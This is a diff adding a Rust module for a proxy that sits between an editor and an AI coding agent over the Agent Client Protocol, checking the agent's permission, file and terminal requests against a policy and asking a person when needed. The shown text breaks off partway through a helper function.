@@ -1,0 +1,1563 @@
+//! toolgate at the ACP boundary: `toolgate acp -- AGENT ARGS…` stands between an editor and a
+//! coding agent that speak the Agent Client Protocol over stdio. To the editor it is the agent;
+//! to the agent it is the editor.
+//!
+//! Frames are relayed as the peers wrote them — initialization and capabilities, sessions and
+//! their modes, prompts, streaming `session/update`, cancellations, authentication, extension
+//! methods and `_meta` — except for four requests of the agent's, which are judged by the
+//! policy before the editor sees them:
+//!
+//! - `session/request_permission`: the tool call (its kind, locations and raw input) is judged;
+//!   any location outside the session's workspace is refused at once (AGH's rule); an allowed
+//!   call is answered here with the agent's allow option, a refused one with its reject option
+//!   (and the editor is told why in a `session/update` its user sees); a call the policy asks
+//!   about goes to the editor unchanged, and its person answers. The option is chosen as AGH
+//!   chooses it: the decision's own kind, else its sibling, else the outcome "cancelled".
+//! - `fs/read_text_file`, `fs/write_text_file` and `terminal/create`: allowed, they go on to the
+//!   editor (a terminal wrapped in `toolgate sandbox` when asked); refused, the agent gets a
+//!   JSON-RPC error with the reason; asked, the editor's person is asked with a
+//!   `session/request_permission` of toolgate's own, and the request goes on only if they allow.
+//!
+//! An "always" answer is remembered for the rest of the session and answers the later calls it
+//! covers. Requests the agent sends the editor are renumbered (both sides count from 0, and the
+//! proxy asks questions of its own), and the editor's answers get the agent's ids back; the
+//! editor's requests keep their ids (the proxy sends the agent none of its own). Text that is
+//! not a JSON-RPC object is answered with an error and never relayed.
+//!
+//! The proxy itself does no input or output: [`Proxy`] turns each side's frames into frames for
+//! the other, and the relay of `toolgate-mcp` (one child process, line by line) drives it.
+
+mod permission;
+
+use std::collections::HashMap;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::time::{Duration, Instant, SystemTime};
+
+use agent_client_protocol::v1::schema::{
+    CreateTerminalRequest, PermissionOption, ReadTextFileRequest, RequestPermissionRequest,
+    WriteTextFileRequest,
+};
+use serde_json::{Map, Value, json};
+use toolgate_mcp::{Routed, Switch, Verdict};
+use toolgate_policy::{AskDetails, Call, Choice, Decision, Evaluation, Mode, Origin, Policy};
+use toolgate_runtime::grants::{Effect, Grant, GrantContext, ScopeKind, match_grants, targets_for};
+
+pub use toolgate_mcp::{RelayError, ServerCommand, relay};
+
+/// JSON-RPC's "invalid request" (a frame that is not a request, answer or notification).
+const INVALID_REQUEST: i64 = -32600;
+/// JSON-RPC's "parse error".
+const PARSE_ERROR: i64 = -32700;
+/// JSON-RPC's "invalid params".
+const INVALID_PARAMS: i64 = -32602;
+/// The error a request toolgate refuses is answered with (JSON-RPC's server-error range).
+const REFUSED: i64 = -32000;
+/// The error a request cancelled before the editor saw it is answered with (LSP's and ACP's
+/// "request cancelled").
+const CANCELLED: i64 = -32800;
+/// At most this many of the agent's requests wait for a person at once.
+const MAX_WAITING: usize = 1024;
+/// At most this many sessions are remembered (a session the editor never closes stays).
+const MAX_SESSIONS: usize = 4096;
+
+/// What the proxy knows of the policy and how it runs.
+#[derive(Clone)]
+pub struct Options {
+    /// The policy every judged request is judged by.
+    pub policy: Arc<Policy>,
+    /// The workspace when a session names none (its `cwd` is its workspace).
+    pub workspace: Option<PathBuf>,
+    /// The mode every session starts in; `None`: the policy's.
+    pub mode: Option<Mode>,
+    /// How long the agent's permission request waits for the editor's person before it is
+    /// answered with a reject (AGH: 5 minutes); `None`: the policy's approval timeout.
+    pub timeout: Option<Duration>,
+    /// Allowed terminals run under `toolgate sandbox`: this program with these arguments,
+    /// then `--workspace` and the session's workspace, before `--` and the command.
+    pub sandbox: Option<(String, Vec<String>)>,
+}
+
+impl Options {
+    /// Options for a proxy under `policy`: sessions' own workspaces, the policy's mode and
+    /// timeout, no sandbox.
+    pub fn new(policy: Arc<Policy>) -> Options {
+        Options {
+            policy,
+            workspace: None,
+            mode: None,
+            timeout: None,
+            sandbox: None,
+        }
+    }
+}
+
+/// A session the editor opened.
+struct Session {
+    /// Its workspace: the folder it works in, resolved.
+    root: PathBuf,
+    /// The mode it is in, when the editor or the agent chose one of toolgate's three.
+    mode: Option<Mode>,
+    /// Who starts its turns (`_meta.toolgate.origin` of `session/new` and `session/prompt`).
+    origin: Option<Origin>,
+    /// The origin of the prompt turn under way, until its answer.
+    turn: Option<(String, Origin)>,
+    /// Its remembered "always" answers.
+    grants: Vec<Grant>,
+}
+
+/// An editor's request whose answer tells the proxy something.
+enum Watched {
+    /// `session/new` in this folder, with this origin.
+    New(PathBuf, Option<Origin>),
+    /// `session/load` or `session/resume` of this session, in this folder.
+    Load(String, PathBuf),
+    /// `session/set_mode` of this session to this mode.
+    SetMode(String, Mode),
+    /// `session/prompt` of this session: its turn ends with the answer.
+    Prompt(String),
+}
+
+/// A judged request of the agent's waiting for a person.
+struct Asked {
+    /// The session.
+    session: String,
+    /// The call judged.
+    tool: String,
+    details: AskDetails,
+    subjects: Vec<toolgate_policy::SubjectOutcome>,
+    /// Why toolgate asked.
+    reason: String,
+    /// When it is answered with a refusal.
+    deadline: Instant,
+}
+
+/// What an answer of the editor's is to, by the id the proxy gave the request.
+enum Awaiting {
+    /// A request of the agent's, relayed: its answer goes back under the agent's id.
+    Relayed(Value),
+    /// The agent's permission request that the policy asks about, relayed unchanged.
+    Permission {
+        agent_id: Value,
+        options: Vec<PermissionOption>,
+        asked: Asked,
+    },
+    /// toolgate's own question about an agent's request (`line`, id `agent_id`).
+    Question {
+        agent_id: Value,
+        line: String,
+        method: String,
+        asked: Asked,
+    },
+}
+
+/// The proxy between one editor and one agent: what each frame becomes.
+pub struct Proxy {
+    options: Options,
+    sessions: HashMap<String, Session>,
+    /// The editor's requests whose answers are watched, by id (JSON text).
+    watched: HashMap<String, Watched>,
+    /// The agent's requests (and toolgate's questions) out with the editor, by the id the
+    /// proxy gave them.
+    awaiting: HashMap<u64, Awaiting>,
+    next_id: u64,
+    /// The agent's name (its `initialize` answer's `agentInfo.name`): a call's
+    /// `context.agent`.
+    agent: Option<String>,
+    /// The id of the editor's `initialize`, until the agent answers it.
+    initializing: Option<String>,
+}
+
+impl Proxy {
+    /// A proxy with these options.
+    pub fn new(options: Options) -> Proxy {
+        Proxy {
+            options,
+            sessions: HashMap::new(),
+            watched: HashMap::new(),
+            awaiting: HashMap::new(),
+            next_id: 0,
+            agent: None,
+            initializing: None,
+        }
+    }
+
+    /// A frame from the editor.
+    pub fn from_editor(&mut self, line: &str) -> Vec<Routed> {
+        let message = match parse(line) {
+            Ok(message) => message,
+            Err(out) => return vec![Routed::ToClient(out)],
+        };
+        let id = message.get("id");
+        match (message.get("method").and_then(Value::as_str), id) {
+            (Some(method), Some(id)) => {
+                self.watch(method, id, message.get("params"));
+                vec![to_agent(line)]
+            }
+            (Some(_), None) => vec![to_agent(line)],
+            (None, Some(id)) => self.editor_answered(id, &message),
+            (None, None) => vec![Routed::ToClient(error_text(
+                &Value::Null,
+                INVALID_REQUEST,
+                "neither a request, an answer nor a notification",
+            ))],
+        }
+    }
+
+    /// A frame from the agent.
+    pub fn from_agent(&mut self, line: &str) -> Vec<Routed> {
+        let message = match parse(line) {
+            Ok(message) => message,
+            Err(out) => return vec![to_agent(&out)],
+        };
+        let params = message.get("params");
+        match (
+            message.get("method").and_then(Value::as_str),
+            message.get("id"),
+        ) {
+            (Some(method), Some(id)) => {
+                let id = id.clone();
+                match method {
+                    "session/request_permission" => self.judge_permission(&id, params, line),
+                    "fs/read_text_file" | "fs/write_text_file" | "terminal/create" => {
+                        self.judge_work(&id, method, params, line)
+                    }
+                    _ => {
+                        let proxy_id = self.remember(Awaiting::Relayed(id));
+                        vec![Routed::ToClient(with_id(&message, proxy_id))]
+                    }
+                }
+            }
+            (Some("$/cancel_request"), None) => self.agent_cancelled(&message),
+            // What toolgate judges comes as a request: sent as a notification, it has no one
+            // to answer and goes nowhere.
+            (
+                Some(
+                    "session/request_permission"
+                    | "fs/read_text_file"
+                    | "fs/write_text_file"
+                    | "terminal/create",
+                ),
+                None,
+            ) => Vec::new(),
+            (Some(method), None) => {
+                if method == "session/update" {
+                    self.mode_update(params);
+                }
+                vec![Routed::ToClient(line.to_owned())]
+            }
+            (None, Some(id)) => {
+                self.agent_answered(id, &message);
+                vec![Routed::ToClient(line.to_owned())]
+            }
+            (None, None) => vec![to_agent(&error_text(
+                &Value::Null,
+                INVALID_REQUEST,
+                "neither a request, an answer nor a notification",
+            ))],
+        }
+    }
+
+    /// Questions nobody answered by `now`: the agent's request is answered with a refusal (a
+    /// permission request with its reject option, AGH's timeout), and the editor is told to
+    /// drop the question.
+    pub fn expire(&mut self, now: Instant) -> Vec<Routed> {
+        let lapsed: Vec<u64> = self
+            .awaiting
+            .iter()
+            .filter(|(_, a)| match a {
+                Awaiting::Relayed(_) => false,
+                Awaiting::Permission { asked, .. } | Awaiting::Question { asked, .. } => {
+                    asked.deadline <= now
+                }
+            })
+            .map(|(id, _)| *id)
+            .collect();
+        let mut outs = Vec::new();
+        for id in lapsed {
+            let Some(awaiting) = self.awaiting.remove(&id) else {
+                continue;
+            };
+            outs.push(Routed::ToClient(cancel_request(id)));
+            match awaiting {
+                Awaiting::Relayed(_) => {}
+                // AGH: a permission nobody answered in time is rejected once.
+                Awaiting::Permission {
+                    agent_id, options, ..
+                } => {
+                    let (result, _) = permission::outcome(&options, Choice::RejectOnce);
+                    outs.push(to_agent(&answer(&agent_id, result)));
+                }
+                Awaiting::Question {
+                    agent_id, asked, ..
+                } => outs.push(to_agent(&error_text(
+                    &agent_id,
+                    REFUSED,
+                    &format!("{} — nobody answered in time", asked.reason),
+                ))),
+            }
+        }
+        outs
+    }
+
+    /// The context a session's requests are judged in.
+    fn context(&self, session: &str) -> toolgate_policy::Context {
+        let known = self.sessions.get(session);
+        let root = known
+            .map(|s| s.root.clone())
+            .or_else(|| self.options.workspace.clone());
+        let root = root.map(|r| r.to_string_lossy().into_owned());
+        toolgate_policy::Context {
+            session: Some(session.to_owned()),
+            agent: self.agent.clone(),
+            workspace: root.clone(),
+            cwd: root,
+            mode: known.and_then(|s| s.mode).or(self.options.mode),
+            origin: known.and_then(|s| s.turn.as_ref().map(|(_, o)| *o).or(s.origin)),
+            ..Default::default()
+        }
+    }
+
+    /// Where a session's "always" answers apply.
+    fn grant_context(&self, session: &str) -> GrantContext {
+        GrantContext {
+            session: session.to_owned(),
+            branch: "main".into(),
+            turn: 0,
+            workspace: self.sessions.get(session).map(|s| s.root.clone()),
+        }
+    }
+
+    /// What a session's remembered answers say about an ask.
+    fn granted(&self, session: &str, tool: &str, evaluation: &Evaluation) -> Option<Effect> {
+        let grants = &self.sessions.get(session)?.grants;
+        match_grants(
+            grants,
+            tool,
+            &evaluation.subjects,
+            &self.grant_context(session),
+            SystemTime::now(),
+        )
+        .map(|m| m.effect)
+    }
+
+    /// Remembers an "always" answer for the rest of the session.
+    fn remember_answer(&mut self, asked: &Asked, choice: Choice) {
+        if !choice.is_always() {
+            return;
+        }
+        let context = self.grant_context(&asked.session);
+        let by = self.agent.clone().unwrap_or_else(|| "acp editor".into());
+        let Some(session) = self.sessions.get_mut(&asked.session) else {
+            return;
+        };
+        let effect = if choice.allows() {
+            Effect::Allow
+        } else {
+            Effect::Deny
+        };
+        for target in targets_for(asked.details.grant, &asked.subjects).unwrap_or_default() {
+            session.grants.push(Grant::new(
+                effect,
+                asked.tool.clone(),
+                target,
+                context.scope(ScopeKind::Session),
+                &by,
+            ));
+        }
+    }
+
+    fn remember(&mut self, awaiting: Awaiting) -> u64 {
+        let id = self.next_id;
+        self.next_id += 1;
+        self.awaiting.insert(id, awaiting);
+        id
+    }
+
+    fn waiting(&self) -> usize {
+        self.awaiting
+            .values()
+            .filter(|a| !matches!(a, Awaiting::Relayed(_)))
+            .count()
+    }
+
+    /// The deadline of a question asked now.
+    fn deadline(&self, details: &AskDetails) -> Instant {
+        Instant::now() + self.options.timeout.unwrap_or(details.timeout)
+    }
+
+    /// An editor's request: remembered when its answer tells the proxy something.
+    fn watch(&mut self, method: &str, id: &Value, params: Option<&Value>) {
+        let field = |key: &str| params.and_then(|p| p.get(key)).and_then(Value::as_str);
+        let watched = match method {
+            "initialize" => {
+                self.initializing = Some(id.to_string());
+                return;
+            }
+            "session/new" => {
+                field("cwd").map(|cwd| Watched::New(PathBuf::from(cwd), origin_of(params)))
+            }
+            "session/load" | "session/resume" => match (field("sessionId"), field("cwd")) {
+                (Some(session), Some(cwd)) => {
+                    Some(Watched::Load(session.to_owned(), PathBuf::from(cwd)))
+                }
+                _ => None,
+            },
+            "session/set_mode" => match (field("sessionId"), field("modeId")) {
+                (Some(session), Some(mode)) => Mode::parse(mode)
+                    .ok()
+                    .filter(|_| !mode.is_empty())
+                    .map(|mode| Watched::SetMode(session.to_owned(), mode)),
+                _ => None,
+            },
+            "session/prompt" => field("sessionId").map(|session| {
+                if let (Some(origin), Some(known)) =
+                    (origin_of(params), self.sessions.get_mut(session))
+                {
+                    known.turn = Some((id.to_string(), origin));
+                }
+                Watched::Prompt(session.to_owned())
+            }),
+            _ => None,
+        };
+        if let Some(watched) = watched {
+            self.watched.insert(id.to_string(), watched);
+        }
+    }
+
+    /// The agent answered an editor's request (relayed unchanged by the caller).
+    fn agent_answered(&mut self, id: &Value, message: &Map<String, Value>) {
+        let key = id.to_string();
+        let result = message.get("result");
+        if self.initializing.as_deref() == Some(key.as_str()) {
+            self.initializing = None;
+            self.agent = result
+                .and_then(|r| r.get("agentInfo"))
+                .and_then(|i| i.get("name"))
+                .and_then(Value::as_str)
+                .map(str::to_owned);
+        }
+        let Some(watched) = self.watched.remove(&key) else {
+            return;
+        };
+        match (watched, result) {
+            (Watched::New(cwd, origin), Some(result)) => {
+                if let Some(session) = result.get("sessionId").and_then(Value::as_str) {
+                    let mode = current_mode(result.get("modes"));
+                    self.open(session, &cwd, mode, origin);
+                }
+            }
+            (Watched::Load(session, cwd), Some(result)) => {
+                let mode = current_mode(result.get("modes"));
+                self.open(&session, &cwd, mode, None);
+            }
+            (Watched::SetMode(session, mode), Some(_)) => {
+                if let Some(known) = self.sessions.get_mut(&session) {
+                    known.mode = Some(mode);
+                }
+            }
+            (Watched::Prompt(session), _) => {
+                if let Some(known) = self.sessions.get_mut(&session)
+                    && known.turn.as_ref().is_some_and(|(turn, _)| *turn == key)
+                {
+                    known.turn = None;
+                }
+            }
+            _ => {}
+        }
+    }
+
+    fn open(&mut self, session: &str, cwd: &Path, mode: Option<Mode>, origin: Option<Origin>) {
+        if self.sessions.len() >= MAX_SESSIONS && !self.sessions.contains_key(session) {
+            // The oldest is not known; any one that is not this one goes.
+            if let Some(gone) = self.sessions.keys().next().cloned() {
+                self.sessions.remove(&gone);
+            }
+        }
+        let root = std::fs::canonicalize(cwd).unwrap_or_else(|_| cwd.to_path_buf());
+        self.sessions.insert(
+            session.to_owned(),
+            Session {
+                root,
+                mode,
+                origin,
+                turn: None,
+                grants: Vec::new(),
+            },
+        );
+    }
+
+    /// The agent's `session/update`: a mode it switched to, if it is one of toolgate's.
+    fn mode_update(&mut self, params: Option<&Value>) {
+        let Some(params) = params else { return };
+        let update = params.get("update");
+        if update
+            .and_then(|u| u.get("sessionUpdate"))
+            .and_then(Value::as_str)
+            != Some("current_mode_update")
+        {
+            return;
+        }
+        let mode = update
+            .and_then(|u| u.get("currentModeId"))
+            .and_then(Value::as_str)
+            .filter(|m| !m.is_empty())
+            .and_then(|m| Mode::parse(m).ok());
+        if let (Some(mode), Some(session)) = (
+            mode,
+            params
+                .get("sessionId")
+                .and_then(Value::as_str)
+                .and_then(|s| self.sessions.get_mut(s)),
+        ) {
+            session.mode = Some(mode);
+        }
+    }
+
+    /// An answer of the editor's, to the request the proxy gave id `id`.
+    fn editor_answered(&mut self, id: &Value, message: &Map<String, Value>) -> Vec<Routed> {
+        // An id the proxy did not give (or an answer after the request was dropped) is not
+        // the agent's to hear.
+        let Some(awaiting) = id.as_u64().and_then(|id| self.awaiting.remove(&id)) else {
+            return Vec::new();
+        };
+        match awaiting {
+            Awaiting::Relayed(agent_id) => vec![to_agent(&with_id(message, agent_id))],
+            Awaiting::Permission {
+                agent_id,
+                options,
+                asked,
+            } => {
+                let chosen = selected(message)
+                    .and_then(|option| options.iter().find(|o| o.option_id.0.as_ref() == option))
+                    .and_then(|o| permission::choice_of(&o.kind));
+                if let Some(choice) = chosen {
+                    self.remember_answer(&asked, choice);
+                }
+                vec![to_agent(&with_id(message, agent_id))]
+            }
+            Awaiting::Question {
+                agent_id,
+                line,
+                method,
+                asked,
+            } => {
+                let chosen = selected(message).and_then(|option| option.parse::<Choice>().ok());
+                match chosen {
+                    Some(choice) if choice.allows() => {
+                        self.remember_answer(&asked, choice);
+                        self.pass_on(agent_id, &method, &line)
+                    }
+                    Some(choice) => {
+                        self.remember_answer(&asked, choice);
+                        vec![to_agent(&error_text(
+                            &agent_id,
+                            REFUSED,
+                            &format!("{} — refused by the person asked", asked.reason),
+                        ))]
+                    }
+                    None => vec![to_agent(&error_text(
+                        &agent_id,
+                        REFUSED,
+                        &format!("{} — the question was cancelled", asked.reason),
+                    ))],
+                }
+            }
+        }
+    }
+
+    /// The agent's `$/cancel_request` for one of its requests: passed on under the id the
+    /// editor knows; for a request toolgate holds, its question is dropped and the request
+    /// answered as cancelled.
+    fn agent_cancelled(&mut self, message: &Map<String, Value>) -> Vec<Routed> {
+        let Some(request) = message.get("params").and_then(|p| p.get("requestId")) else {
+            return Vec::new();
+        };
+        let found = self.awaiting.iter().find_map(|(id, a)| match a {
+            Awaiting::Relayed(agent_id)
+            | Awaiting::Permission { agent_id, .. }
+            | Awaiting::Question { agent_id, .. }
+                if agent_id == request =>
+            {
+                Some(*id)
+            }
+            _ => None,
+        });
+        let Some(id) = found else {
+            return Vec::new();
+        };
+        if matches!(self.awaiting.get(&id), Some(Awaiting::Question { .. })) {
+            self.awaiting.remove(&id);
+            return vec![
+                Routed::ToClient(cancel_request(id)),
+                to_agent(&error_text(request, CANCELLED, "cancelled")),
+            ];
+        }
+        vec![Routed::ToClient(cancel_request(id))]
+    }
+
+    /// A request of the agent's that goes on to the editor (a terminal wrapped in the sandbox
+    /// when asked), under an id of the proxy's.
+    fn pass_on(&mut self, agent_id: Value, method: &str, line: &str) -> Vec<Routed> {
+        let Ok(Value::Object(mut message)) = serde_json::from_str::<Value>(line) else {
+            return vec![to_agent(&error_text(
+                &agent_id,
+                REFUSED,
+                "unreadable request",
+            ))];
+        };
+        if method == "terminal/create"
+            && let Some((program, args)) = &self.options.sandbox
+            && let Some(params) = message.get_mut("params").and_then(Value::as_object_mut)
+        {
+            let session = params
+                .get("sessionId")
+                .and_then(Value::as_str)
+                .unwrap_or_default();
+            let root = self
+                .sessions
+                .get(session)
+                .map(|s| s.root.clone())
+                .or_else(|| self.options.workspace.clone());
+            let mut args = args.clone();
+            if let Some(root) = root {
+                args.push("--workspace".to_owned());
+                args.push(root.to_string_lossy().into_owned());
+            }
+            sandboxed(params, program, &args);
+        }
+        let id = self.remember(Awaiting::Relayed(agent_id));
+        vec![Routed::ToClient(with_id(&message, id))]
+    }
+
+    /// `fs/read_text_file`, `fs/write_text_file` or `terminal/create` from the agent.
+    fn judge_work(
+        &mut self,
+        id: &Value,
+        method: &str,
+        params: Option<&Value>,
+        line: &str,
+    ) -> Vec<Routed> {
+        let Some(params) = params else {
+            return vec![to_agent(&error_text(
+                id,
+                INVALID_PARAMS,
+                &format!("{method} has no params"),
+            ))];
+        };
+        let (session, well_formed) = match method {
+            "fs/read_text_file" => serde_json::from_value::<ReadTextFileRequest>(params.clone())
+                .map(|r| r.session_id.0.to_string()),
+            "fs/write_text_file" => serde_json::from_value::<WriteTextFileRequest>(params.clone())
+                .map(|r| r.session_id.0.to_string()),
+            _ => serde_json::from_value::<CreateTerminalRequest>(params.clone())
+                .map(|r| r.session_id.0.to_string()),
+        }
+        .map_or_else(|e| (String::new(), Err(e)), |s| (s, Ok(())));
+        if let Err(e) = well_formed {
+            return vec![to_agent(&error_text(
+                id,
+                INVALID_PARAMS,
+                &format!("{method}: {e}"),
+            ))];
+        }
+        let mut call = Call::new(method).with_args(params.clone());
+        call.context = self.context(&session);
+        let evaluation = self.options.policy.evaluate(&call);
+        let reason = stated(&evaluation);
+        match evaluation.decision {
+            Decision::Allow => self.pass_on(id.clone(), method, line),
+            Decision::Deny => vec![to_agent(&error_text(id, REFUSED, &reason))],
+            Decision::Ask => {
+                match self.granted(&session, method, &evaluation) {
+                    Some(Effect::Allow) => return self.pass_on(id.clone(), method, line),
+                    Some(Effect::Deny) => {
+                        return vec![to_agent(&error_text(
+                            id,
+                            REFUSED,
+                            &format!(
+                                "{reason} — refused: the person answered \"deny for this session\""
+                            ),
+                        ))];
+                    }
+                    None => {}
+                }
+                let Some(details) = evaluation.ask.clone() else {
+                    return vec![to_agent(&error_text(id, REFUSED, &reason))];
+                };
+                if self.waiting() >= MAX_WAITING {
+                    return vec![to_agent(&error_text(
+                        id,
+                        REFUSED,
+                        &format!("{reason} — too many questions are waiting"),
+                    ))];
+                }
+                let offered = offered(&details, &evaluation.subjects);
+                let asked = Asked {
+                    session: session.to_owned(),
+                    tool: method.to_owned(),
+                    deadline: self.deadline(&details),
+                    details,
+                    subjects: evaluation.subjects,
+                    reason: reason.clone(),
+                };
+                // The question's id, and its tool call's: `toolgate-N`.
+                let question = question(self.next_id, &session, method, params, &offered, &asked);
+                let proxy_id = self.remember(Awaiting::Question {
+                    agent_id: id.clone(),
+                    line: line.to_owned(),
+                    method: method.to_owned(),
+                    asked,
+                });
+                let mut message = question;
+                message.insert("id".into(), json!(proxy_id));
+                vec![Routed::ToClient(Value::Object(message).to_string())]
+            }
+        }
+    }
+
+    /// The agent's `session/request_permission`.
+    fn judge_permission(&mut self, id: &Value, params: Option<&Value>, line: &str) -> Vec<Routed> {
+        let request = match params
+            .cloned()
+            .map(serde_json::from_value::<RequestPermissionRequest>)
+        {
+            Some(Ok(request)) => request,
+            Some(Err(e)) => {
+                return vec![to_agent(&error_text(
+                    id,
+                    INVALID_PARAMS,
+                    &format!("session/request_permission: {e}"),
+                ))];
+            }
+            None => {
+                return vec![to_agent(&error_text(
+                    id,
+                    INVALID_PARAMS,
+                    "session/request_permission has no params",
+                ))];
+            }
+        };
+        let session = request.session_id.0.to_string();
+        let tool_call_id = request.tool_call.tool_call_id.0.to_string();
+        // AGH: a location outside the workspace is refused at once, whatever the mode.
+        if let Some(outside) = self.outside(&session, &request) {
+            let reason = format!("toolgate: {outside} is outside the session's workspace");
+            return self.reject(id, &session, &tool_call_id, &request.options, &reason);
+        }
+        let (tool, args) = permission::call_of(&request);
+        let mut call = Call::new(&tool).with_args(args);
+        call.context = self.context(&session);
+        let evaluation = self.options.policy.evaluate(&call);
+        let reason = stated(&evaluation);
+        let decision = match evaluation.decision {
+            Decision::Ask => match self.granted(&session, &tool, &evaluation) {
+                Some(Effect::Allow) => Decision::Allow,
+                Some(Effect::Deny) => Decision::Deny,
+                None => Decision::Ask,
+            },
+            decided => decided,
+        };
+        match decision {
+            Decision::Allow => {
+                let (result, _) = permission::outcome(&request.options, Choice::AllowOnce);
+                vec![to_agent(&answer(id, result))]
+            }
+            Decision::Deny => self.reject(id, &session, &tool_call_id, &request.options, &reason),
+            Decision::Ask => {
+                let Some(details) = evaluation.ask.clone() else {
+                    return self.reject(id, &session, &tool_call_id, &request.options, &reason);
+                };
+                if self.waiting() >= MAX_WAITING {
+                    let reason = format!("{reason} — too many questions are waiting");
+                    return self.reject(id, &session, &tool_call_id, &request.options, &reason);
+                }
+                let asked = Asked {
+                    session,
+                    tool,
+                    deadline: self.deadline(&details),
+                    details,
+                    subjects: evaluation.subjects,
+                    reason,
+                };
+                let proxy_id = self.remember(Awaiting::Permission {
+                    agent_id: id.clone(),
+                    options: request.options,
+                    asked,
+                });
+                let Ok(Value::Object(message)) = serde_json::from_str::<Value>(line) else {
+                    return Vec::new();
+                };
+                vec![Routed::ToClient(with_id(&message, proxy_id))]
+            }
+        }
+    }
+
+    /// A permission request refused: the agent hears its reject option (or "cancelled"), and
+    /// the editor's user is told why.
+    fn reject(
+        &self,
+        id: &Value,
+        session: &str,
+        tool_call_id: &str,
+        options: &[PermissionOption],
+        reason: &str,
+    ) -> Vec<Routed> {
+        let (result, _) = permission::outcome(options, Choice::RejectOnce);
+        vec![
+            Routed::ToClient(
+                json!({
+                    "jsonrpc": "2.0",
+                    "method": "session/update",
+                    "params": {
+                        "sessionId": session,
+                        "update": {
+                            "sessionUpdate": "tool_call_update",
+                            "toolCallId": tool_call_id,
+                            "status": "failed",
+                            "content": [{
+                                "type": "content",
+                                "content": {"type": "text", "text": reason},
+                            }],
+                        },
+                    },
+                })
+                .to_string(),
+            ),
+            to_agent(&answer(id, result)),
+        ]
+    }
+
+    /// The first location of a permission request outside its session's workspace.
+    fn outside(&self, session: &str, request: &RequestPermissionRequest) -> Option<String> {
+        let root = self
+            .sessions
+            .get(session)
+            .map(|s| s.root.clone())
+            .or_else(|| self.options.workspace.clone());
+        let locations = request
+            .tool_call
+            .fields
+            .locations
+            .as_deref()
+            .unwrap_or_default();
+        let Some(root) = root else {
+            // No workspace is known: every location is outside it.
+            return locations.first().map(|l| l.path.display().to_string());
+        };
+        let roots = [root.clone()];
+        locations.iter().find_map(|location| {
+            let given = location.path.to_string_lossy();
+            match toolgate_policy::path::resolve_in(&given, &roots, &root) {
+                Ok(resolved) if resolved.root.is_some() => None,
+                _ => Some(format!("`{given}`")),
+            }
+        })
+    }
+}
+
+impl Switch for Proxy {
+    fn client_said(&mut self, line: &str) -> Vec<Routed> {
+        self.from_editor(line)
+    }
+    fn server_said(&mut self, _: usize, line: &str) -> Vec<Routed> {
+        self.from_agent(line)
+    }
+    fn server_ended(&mut self, _: usize) -> Vec<Routed> {
+        Vec::new()
+    }
+    fn expire(&mut self, now: Instant) -> Vec<Routed> {
+        Proxy::expire(self, now)
+    }
+    // The proxy judges with its own policy: it hands nothing to the daemon, so the relay never
+    // reports a daemon's answer to it.
+    fn pending(&mut self, _: usize, _: u64, _: &str, _: &str, _: &str) -> Vec<Routed> {
+        Vec::new()
+    }
+    fn decided(&mut self, _: usize, _: u64, _: &Verdict) -> Vec<Routed> {
+        Vec::new()
+    }
+    fn abandon_all(&mut self) -> Vec<Routed> {
+        Vec::new()
+    }
+}
+
+/// The answers offered for an ask: the policy's, less the "always" ones when nothing narrower
+/// than the question can be remembered.
+fn offered(details: &AskDetails, subjects: &[toolgate_policy::SubjectOutcome]) -> Vec<Choice> {
+    let remembered = targets_for(details.grant, subjects).is_some();
+    details
+        .choices
+        .iter()
+        .copied()
+        .filter(|c| remembered || !c.is_always())
+        .collect()
+}
+
+/// toolgate's own `session/request_permission` (without its id) about an agent's request.
+fn question(
+    number: u64,
+    session: &str,
+    method: &str,
+    params: &Value,
+    offered: &[Choice],
+    asked: &Asked,
+) -> Map<String, Value> {
+    let field = |key: &str| params.get(key).and_then(Value::as_str).unwrap_or_default();
+    let (kind, title, location) = match method {
+        "fs/read_text_file" => (
+            "read",
+            format!("Read {}", field("path")),
+            Some(field("path")),
+        ),
+        "fs/write_text_file" => (
+            "edit",
+            format!("Write {}", field("path")),
+            Some(field("path")),
+        ),
+        _ => {
+            let mut command = vec![field("command").to_owned()];
+            if let Some(args) = params.get("args").and_then(Value::as_array) {
+                command.extend(args.iter().filter_map(Value::as_str).map(str::to_owned));
+            }
+            ("execute", format!("Run {}", command.join(" ")), None)
+        }
+    };
+    let covers = targets_for(asked.details.grant, &asked.subjects)
+        .map(|targets| {
+            targets
+                .iter()
+                .map(ToString::to_string)
+                .collect::<Vec<_>>()
+                .join(", ")
+        })
+        .unwrap_or_default();
+    let options: Vec<Value> = offered
+        .iter()
+        .map(|choice| {
+            let name = match choice {
+                Choice::AllowOnce => "Allow once".to_owned(),
+                Choice::AllowAlways => format!("Allow {covers} for this session"),
+                Choice::RejectOnce => "Deny".to_owned(),
+                Choice::RejectAlways => format!("Deny {covers} for this session"),
+            };
+            json!({"optionId": choice.as_str(), "name": name, "kind": permission::kind_of(*choice)})
+        })
+        .collect();
+    let mut tool_call = json!({
+        "toolCallId": format!("toolgate-{number}"),
+        "title": format!("{title} — {}", asked.reason),
+        "kind": kind,
+        "status": "pending",
+        "rawInput": params,
+    });
+    if let (Some(path), Some(call)) = (location, tool_call.as_object_mut()) {
+        call.insert("locations".into(), json!([{"path": path}]));
+    }
+    let mut message = Map::new();
+    message.insert("jsonrpc".into(), json!("2.0"));
+    message.insert("method".into(), json!("session/request_permission"));
+    message.insert(
+        "params".into(),
+        json!({"sessionId": session, "toolCall": tool_call, "options": options}),
+    );
+    message
+}
+
+/// A terminal's command rewritten to run under `toolgate sandbox`: `PROGRAM ARGS… -- COMMAND
+/// ARGS…`, in the same folder with the same environment.
+fn sandboxed(params: &mut Map<String, Value>, program: &str, args: &[String]) {
+    let command = params.get("command").cloned().unwrap_or(Value::Null);
+    let rest = params
+        .get("args")
+        .and_then(Value::as_array)
+        .cloned()
+        .unwrap_or_default();
+    let mut wrapped: Vec<Value> = args.iter().map(|a| json!(a)).collect();
+    wrapped.push(json!("--"));
+    wrapped.push(command);
+    wrapped.extend(rest);
+    params.insert("command".into(), json!(program));
+    params.insert("args".into(), Value::Array(wrapped));
+}
+
+/// The origin a request's `_meta.toolgate.origin` names.
+fn origin_of(params: Option<&Value>) -> Option<Origin> {
+    params
+        .and_then(|p| p.get("_meta"))
+        .and_then(|m| m.get("toolgate"))
+        .and_then(|t| t.get("origin"))
+        .and_then(Value::as_str)
+        .and_then(|o| o.parse().ok())
+}
+
+/// The session's current mode, from a `modes` state, if it is one of toolgate's.
+fn current_mode(modes: Option<&Value>) -> Option<Mode> {
+    modes
+        .and_then(|m| m.get("currentModeId"))
+        .and_then(Value::as_str)
